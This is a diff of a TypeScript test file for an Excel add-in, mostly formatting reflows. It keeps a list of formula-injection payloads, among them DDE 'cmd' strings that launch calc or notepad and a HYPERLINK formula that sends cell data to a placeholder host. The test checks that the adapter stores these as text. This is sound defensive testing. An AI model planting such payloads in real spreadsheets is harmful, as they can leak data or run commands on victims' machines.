@@ -10,7 +10,15 @@ import { DEFAULT_SETTINGS } from '../../src/core/settings';
 import type { SheetPlan } from '../../src/core/plan/sheet-plan';
 import { applyPlans } from '../../src/excel/apply-plans';
 import { readSnapshot } from '../../src/excel/read-snapshot';
-import { addSheet, fakeContext, getCell, newState, setCells, sheetNamed, type FakeValue } from '../excel/fake-excel';
+import {
+  addSheet,
+  fakeContext,
+  getCell,
+  newState,
+  setCells,
+  sheetNamed,
+  type FakeValue,
+} from '../excel/fake-excel';
 import { memoryIO, pct, sheetOf, xlsxOf } from './fixtures';
 
 /**
@@ -20,8 +28,8 @@ import { memoryIO, pct, sheetOf, xlsxOf } from './fixtures';
 const HOSTILE = [
   '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
   "+cmd|' /C calc'!A0",
-  '=2+3+cmd|\' /C notepad\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "=2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '=WEBSERVICE("http://contoh.invalid")',
 ];
 const PROGRAM = HOSTILE[0];
@@ -41,7 +49,10 @@ function hostileRows() {
 }
 
 function plansOfHostile(): SheetPlan[] {
-  const result = periksaWorkbook({ name: 'x.xlsx', sheets: [sheetOf(SHEET, hostileRows())] }, DEFAULT_SETTINGS);
+  const result = periksaWorkbook(
+    { name: 'x.xlsx', sheets: [sheetOf(SHEET, hostileRows())] },
+    DEFAULT_SETTINGS,
+  );
   return susunWorkbook(result, DEFAULT_SETTINGS).plans;
 }
 
@@ -92,12 +103,15 @@ describe('the Office.js adapter', () => {
   it('writes the hostile names so Excel keeps them as text (the apostrophe prefix), never as formulas', async () => {
     const state = newState();
     const sheet = addSheet(state, SHEET);
-    const rows = hostileRows().map((r) => r.map((v) => (v !== null && typeof v === 'object' ? v.value : (v ?? null)) as FakeValue));
+    const rows = hostileRows().map((r) =>
+      r.map((v) => (v !== null && typeof v === 'object' ? v.value : (v ?? null)) as FakeValue),
+    );
     setCells(sheet, 0, 0, rows);
     // setCells takes a leading `=` for a formula; the user typed these as text (with Excel's apostrophe).
     rows.forEach((row, r) =>
       row.forEach((v, c) => {
-        if (typeof v === 'string' && v.startsWith('=')) Object.assign(getCell(sheet, r, c)!, { value: v, formula: undefined });
+        if (typeof v === 'string' && v.startsWith('='))
+          Object.assign(getCell(sheet, r, c)!, { value: v, formula: undefined });
       }),
     );
     const context = fakeContext(state);
